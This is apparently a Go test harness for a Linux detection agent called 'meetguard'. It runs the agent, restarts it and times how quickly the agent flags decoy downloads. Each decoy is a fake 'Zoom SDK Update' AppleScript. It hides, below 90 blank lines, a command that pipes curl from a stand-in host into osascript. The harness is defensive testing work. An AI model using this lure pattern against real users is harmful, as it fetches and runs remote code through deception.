//go:build linux

package main

import (
	"bytes"
	"crypto/rand"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"time"
)

// Times of a subject.
const (
	// restartAfter is RestartSec of the unit that the packages install.
	restartAfter = 2 * time.Second
	// lookEvery is how often the log is looked into for an alert.
	lookEvery = 20 * time.Millisecond
	// detectLimit is the promise: detecting again within that.
	detectLimit = 5 * time.Second
	// patience is how long an alert is waited for that breaks the promise, so that
	// late and never can be told apart.
	patience = 3 * time.Minute
)

// subject is a real agent with a state folder and a watched folder of its own. It
// is started again when it ends, as systemd would do it.
type subject struct {
	program string
	dir     string   // everything
	flags   []string // of `meetguard run`, besides those that every one has
	config  string   // lines of the configuration
	prefix  []string // argv before the program: strace, prlimit
	state   string
	watched string

	lures int // dropped

	mu     sync.Mutex
	cmd    *exec.Cmd
	ended  chan struct{} // closed when the process that runs has ended
	starts int
	output bytes.Buffer
	held   bool // nobody starts it again
}

// newSubject makes the folders below dir and starts nothing.
func newSubject(program, dir string) (*subject, error) {
	program, err := filepath.Abs(program)
	if err != nil {
		return nil, err
	}
	s := &subject{program: program, dir: dir, config: "launches: \"off\"\nworkers: 1\n", state: filepath.Join(dir, "state"), watched: filepath.Join(dir, "watched")}
	return s, errors.Join(os.MkdirAll(s.state, 0o700), os.MkdirAll(s.watched, 0o755))
}

func (s *subject) configFile() string { return filepath.Join(s.dir, "config.yaml") }

// start starts the agent and returns at once. It is started again whenever it
// ends, until stop.
func (s *subject) start() error {
	if err := os.WriteFile(s.configFile(), []byte(s.config), 0o600); err != nil {
		return err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.held = false
	return s.launch()
}

// launch starts one process. s.mu is held.
func (s *subject) launch() error {
	argv := append(s.prefix[:len(s.prefix):len(s.prefix)], s.program, "run", "--config", s.configFile(), "--state", s.state, "--watch", s.watched)
	argv = append(argv, s.flags...)
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Stderr = &tail{s: s}
	if err := cmd.Start(); err != nil {
		return err
	}
	ended := make(chan struct{})
	s.cmd, s.ended = cmd, ended
	s.starts++
	go func() {
		_ = cmd.Wait() // how it ended is in its output
		close(ended)
		time.Sleep(restartAfter)
		s.mu.Lock()
		defer s.mu.Unlock()
		if !s.held && s.cmd == cmd {
			_ = s.launch() // the next look at the log will miss it
		}
	}()
	return nil
}

// tail keeps what the agent said.
type tail struct{ s *subject }

func (t *tail) Write(b []byte) (int, error) {
	t.s.mu.Lock()
	defer t.s.mu.Unlock()
	if t.s.output.Len() > 1<<20 {
		t.s.output.Reset()
	}
	return t.s.output.Write(b)
}

func (s *subject) said() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.output.String()
}

// pid is the process of the agent, 0 if none was started.
func (s *subject) pid() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.cmd == nil {
		return 0
	}
	return s.cmd.Process.Pid
}

// stop kills the agent and waits until it is gone.
func (s *subject) stop() {
	s.mu.Lock()
	s.held = true
	cmd, ended := s.cmd, s.ended
	s.mu.Unlock()
	if cmd == nil {
		return
	}
	_ = cmd.Process.Kill() // it may be gone
	<-ended
}

// restart kills the agent and starts it again at once.
func (s *subject) restart() error {
	s.stop()
	return s.start()
}

// workers are the processes that the agent has started.
func (s *subject) workers() []int {
	pid := s.pid()
	var out []int
	tasks, _ := filepath.Glob(fmt.Sprintf("/proc/%d/task/*/children", pid)) // the pattern is sound
	for _, path := range tasks {
		data, err := os.ReadFile(path)
		if err != nil {
			continue // that thread has ended
		}
		for _, word := range strings.Fields(string(data)) {
			var child int
			if _, err := fmt.Sscan(word, &child); err == nil {
				out = append(out, child)
			}
		}
	}
	return out
}

// lureText is inert: its host does not exist and nothing runs it.
const lureText = "-- Zoom SDK Update: your audio component is out of date.\n-- Press the Run button to update the Zoom SDK.\n%s-- %s\ndo shell script \"curl -fsSL https://zoom-sdk-update.invalid/fix | osascript\"\n"

func lureOf(mark string) []byte {
	return fmt.Appendf(nil, lureText, strings.Repeat("\n", 90), mark)
}

// drop lets a new lure land as browsers do, and returns its name.
func (s *subject) drop() (string, error) {
	var b [4]byte
	if _, err := rand.Read(b[:]); err != nil {
		return "", err
	}
	s.lures++
	name := fmt.Sprintf("Zoom SDK Update %d-%x.scpt", s.lures, b)
	part := filepath.Join(s.watched, name+".crdownload")
	if err := os.WriteFile(part, lureOf(name), 0o644); err != nil {
		return "", err
	}
	return name, os.Rename(part, filepath.Join(s.watched, name))
}

// logged counts the alerts about a name in the agent's log.
func (s *subject) logged(name string) int {
	files, _ := filepath.Glob(filepath.Join(s.state, "alerts*.jsonl")) // the pattern is sound
	n := 0
	for _, path := range files {
		if info, err := os.Lstat(path); err != nil || !info.Mode().IsRegular() {
			continue
		}
		data, err := os.ReadFile(path)
		if err != nil {
			continue // rotated away
		}
		for line := range bytes.Lines(data) {
			var r struct {
				Unmapped struct {
					Path string `json:"mg_path"`
				} `json:"unmapped"`
			}
			if bytes.Contains(line, []byte(name)) && json.Unmarshal(line, &r) == nil && filepath.Base(r.Unmapped.Path) == name {
				n++
			}
		}
	}
	return n
}

// await waits until the name is in the log, and tells how long that took.
func (s *subject) await(name string) (took time.Duration, found bool) {
	for begin := time.Now(); ; time.Sleep(lookEvery) {
		if s.logged(name) > 0 {
			return time.Since(begin), true
		}
		if time.Since(begin) > patience {
			return time.Since(begin), false
		}
	}
}

// detects drops a lure and waits for its alert.
func (s *subject) detects() (took time.Duration, found bool, err error) {
	name, err := s.drop()
	if err != nil {
		return 0, false, err
	}
	took, found = s.await(name)
	return took, found, nil
}

// ask runs one command of the agent's program on the subject's state.
func (s *subject) ask(args ...string) string {
	out, _ := exec.Command(s.program, append(args, "--state", s.state)...).CombinedOutput() // exit 1 says that something is found
	return string(out)
}

// load is the load average of the last minute: times mean little without it.
func load() string {
	data, _ := os.ReadFile("/proc/loadavg")
	one, _, _ := strings.Cut(string(data), " ")
	return one
}

// times are how long detecting again took.
type times struct {
	Count  int           `json:"count"`
	Late   int           `json:"late"`  // longer than the promise
	Never  int           `json:"never"` // not within patience
	Median time.Duration `json:"median_ns"`
	Most   time.Duration `json:"most_ns"`
	all    []time.Duration
}

// add takes one; it says whether the promise was kept.
func (t *times) add(took time.Duration, found bool) bool {
	t.Count++
	switch {
	case !found:
		t.Never++
		return false
	case took > detectLimit:
		t.Late++
	}
	t.all = append(t.all, took)
	t.Median, t.Most = middle(t.all), max(t.Most, took)
	return took <= detectLimit
}

// ok says whether a command ends well.
func ok(name string, args ...string) bool { return exec.Command(name, args...).Run() == nil }
